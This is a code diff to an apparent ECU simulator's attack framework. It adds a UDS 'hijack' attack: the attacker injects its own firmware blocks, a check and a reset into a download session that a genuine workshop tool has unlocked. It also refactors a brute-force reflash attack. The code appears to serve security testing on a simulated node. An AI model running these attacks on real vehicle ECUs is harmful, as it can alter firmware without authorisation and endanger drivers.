@@ -10,6 +10,12 @@ that stands, as the node checks; the attack waits for it (a refused programming 
 for again every ``retry`` s). On a node whose key is out of reach the lockout stops the attack
 before a byte is written, and the calibration stays as it was.
 
+``hijack`` is the second tester in the middle of a download: a workshop tool at ``tool`` (it
+knows the node's documented key) opens the programming session, unlocks, erases and has its
+RequestDownload granted; the attacker, from ``source`` and without any key, then sends the
+blocks of its own image into that download, the exit, the check and the reset. It works
+wherever a server takes a session's requests from any tester, as this one does (docs/security.md).
+
 Each request is a step of a generator that is sent the answer to the one before, so the
 attack's order reads as the exchange itself; every frame it sends (a first frame, its
 consecutive frames, the flow control for a long answer) is the attack's, and labelled so.
@@ -25,12 +31,13 @@ import can
 
 from ecu_sim.attack.family import ADDRESS, ATTACKS, NOT_NEGATIVE, PATH, SOURCE_DIAG, Context, whole
 from ecu_sim.attack.tick import Frames
+from ecu_sim.attack.unlock import SOURCE_TOOL
 from ecu_sim.calibration.files import read_image
 from ecu_sim.calibration.layout import AREA_START, CalibrationError
 from ecu_sim.registry.family import ParamError, param
 from ecu_sim.runtime.ticks import ticks_in
 from ecu_sim.tester.client import UdsClient, positive
-from ecu_sim.uds.security import SEED_BYTES
+from ecu_sim.uds.security import LEVEL, SEED_BYTES, default_key
 
 #: a request, or a number of ticks to wait before the next; each is sent the answer (None: none)
 Steps = Generator[bytes | int, bytes | None, None]
@@ -54,34 +61,74 @@ class Reflash:
 @ATTACKS.register("reflash", Reflash, "malicious reflash: the programming session, a key found by brute "
                   "force, then FILE's image erased in, downloaded, checked and started by an ECUReset")
 def reflash(p: Reflash, at: Context) -> Frames:
-    try:
-        data = read_image(Path(p.file)).data
-    except CalibrationError as exc:
-        raise at.refuse(str(exc)) from None
+    data = _image(p.file, at)
     retry = max(1, ticks_in(p.retry, at.period_s))
-    client = UdsClient(p.source, at.period_s)
-    steps = _steps(data, p.first, retry)
-    state: dict[str, int | None] = {"wait_until": None}
-    started = [False]
+    tester = _Tester(UdsClient(p.source, at.period_s), p.target, _steps(data, p.first, retry))
+    return lambda n, heard: tester.frames(n, heard)
+
+
+@dataclass(frozen=True)
+class Hijack:
+    target: int = param(ADDRESS, "0x00")
+    source: int = param(ADDRESS, SOURCE_DIAG)
+    tool: int = param(ADDRESS, SOURCE_TOOL)
+    file: str = param(PATH, missing="{kind} needs file=IMAGE (an .s19 or .hex image for the target's "
+                      "node kind: ecu-sim calibration build)")
+    retry: float = param(NOT_NEGATIVE, "1")
+
+    def __post_init__(self) -> None:
+        if self.retry <= 0:
+            raise ParamError("retry must be above 0 s")
+        if self.tool == self.source or self.target in (self.tool, self.source):
+            raise ParamError("target, source and tool must be three addresses")
+
+
+@ATTACKS.register("hijack", Hijack, "session hijack: a workshop tool at TOOL unlocks, erases and has its "
+                  "download granted; the attacker sends FILE's blocks into it, the exit, the check, a reset")
+def hijack(p: Hijack, at: Context) -> Frames:
+    data = _image(p.file, at)
+    retry = max(1, ticks_in(p.retry, at.period_s))
+    granted: list[bytes] = []
+    tool = _Tester(UdsClient(p.tool, at.period_s), p.target, _workshop(data, retry, granted))
+    attacker = _Tester(UdsClient(p.source, at.period_s), p.target, _into(data, granted))
 
     def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
+        out = tool.frames(n, heard)
+        return out + attacker.frames(n, heard) if granted else out
+    return frames
+
+
+def _image(path: str, at: Context) -> bytes:
+    try:
+        return read_image(Path(path)).data
+    except CalibrationError as exc:
+        raise at.refuse(str(exc)) from None
+
+
+class _Tester:
+    """``steps`` sent by ``client`` to ``target``, each when the answer before it came or its
+    wait ran out."""
+
+    def __init__(self, client: UdsClient, target: int, steps: Steps) -> None:
+        self.client, self.target, self.steps = client, target, steps
+        self.wait_until: int | None = None
+        self.started = False
+
+    def frames(self, n: int, heard: Sequence[can.Message]) -> list[can.Message]:
+        client = self.client
         for msg in heard:
             client.receive(msg.arbitration_id, msg.data)
         ended = client.finished(n)
-        wait_until = state["wait_until"]
-        due = (not started[0]) or ended is not None or (wait_until is not None and n >= wait_until)
-        if due and not client.waiting:
-            answer = None if ended is None else ended.answer
-            started[0] = True
-            state["wait_until"] = None
-            step = _next(steps, answer)
+        waited = self.wait_until is not None and n >= self.wait_until
+        if (not self.started or ended is not None or waited) and not client.waiting:
+            self.started, self.wait_until = True, None
+            step = _next(self.steps, None if ended is None else ended.answer)
             if isinstance(step, int):
-                state["wait_until"] = n + step
+                self.wait_until = n + step
             elif step is not None:
-                client.request(p.target, step)
+                client.request(self.target, step)
         return [can.Message(arbitration_id=can_id, data=payload, is_extended_id=True)
                 for can_id, payload in client.tick(n)]
-    return frames
 
 
 def _next(steps: Steps, answer: bytes | None) -> bytes | int | None:
@@ -116,6 +163,33 @@ def _steps(image: bytes, first: int, retry: int) -> Steps:
         yield b"\x11\x01"
 
 
+def _workshop(image: bytes, retry: int, granted: list[bytes]) -> Steps:
+    """The genuine tool up to its granted download: the sessions, its key, the erase, the request."""
+    yield from _programming(retry)
+    seed = yield b"\x27\x01"
+    if seed is None or seed[:2] != b"\x67\x01":
+        return
+    if seed[2:] != bytes(SEED_BYTES):
+        key = b"\x27\x02" + default_key(seed[2:], LEVEL)
+        if not positive((yield key), key):
+            return
+    erase = b"\x31\x01\xff\x00"
+    ask = _ask(image)
+    if positive((yield erase), erase):
+        answer = yield ask
+        if answer is not None and positive(answer, ask):
+            granted.append(answer)  # the attacker's cue: the download is open
+
+
+def _into(image: bytes, granted: list[bytes]) -> Steps:
+    """The attacker's blocks into the download the tool opened, then the exit, the check, a reset."""
+    if not (yield from _blocks(image, granted[0])):
+        return
+    check = b"\x31\x01\xff\x01"
+    if positive((yield check), check):
+        yield b"\x11\x01"
+
+
 def _programming(retry: int) -> Steps:
     """The extended, then the programming session, asked again while the node refuses (moving)."""
     while True:
@@ -130,11 +204,23 @@ def _programming(retry: int) -> Steps:
 def _download(image: bytes) -> Generator[bytes | int, bytes | None, bool]:
     """RequestDownload of the image at the calibration area, the blocks the node grants, the exit;
     whether each was taken."""
-    ask = b"\x34\x00\x44" + AREA_START.to_bytes(4, "big") + len(image).to_bytes(4, "big")
+    ask = _ask(image)
     answer = yield ask
-    if answer is None or not positive(answer, ask) or len(answer) < 2 + (answer[1] >> 4):
+    if answer is None or not positive(answer, ask):
         return False
-    block = max(1, int.from_bytes(answer[2:2 + (answer[1] >> 4)], "big") - 2)  # less SID and counter
+    return (yield from _blocks(image, answer))
+
+
+def _ask(image: bytes) -> bytes:
+    return b"\x34\x00\x44" + AREA_START.to_bytes(4, "big") + len(image).to_bytes(4, "big")
+
+
+def _blocks(image: bytes, granted: bytes) -> Generator[bytes | int, bytes | None, bool]:
+    """TransferData in the blocks RequestDownload's answer ``granted``, then the exit; whether
+    each was taken."""
+    if len(granted) < 2 + (granted[1] >> 4):
+        return False
+    block = max(1, int.from_bytes(granted[2:2 + (granted[1] >> 4)], "big") - 2)  # less SID and counter
     for counter, offset in enumerate(range(0, len(image), block), start=1):
         transfer = bytes((0x36, counter & 0xFF)) + image[offset:offset + block]
         if not positive((yield transfer), transfer):
